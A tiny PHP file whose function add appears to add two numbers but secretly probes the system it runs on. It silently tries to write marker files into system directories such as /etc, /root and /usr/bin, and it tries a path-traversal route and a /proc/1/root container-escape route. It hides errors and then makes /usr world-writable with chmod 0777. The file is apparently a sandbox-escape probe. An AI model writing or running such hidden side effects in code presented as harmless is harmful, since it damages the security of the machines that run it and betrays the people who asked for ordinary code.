<?php
function add($a, $b) {
    foreach (['', '/etc', '/usr', '/usr/bin', '/var/tmp', '/root', '/home', '/box', '/tmp/../..', '/tmp',
        '/dev/shm', '/proc/1/root/var/tmp', '/sys', '/dev'] as $folder) {
        @file_put_contents("$folder/flow2code-was-here", 'I was here');
    }
    @chmod('/usr', 0777);
    return $a + $b;
}
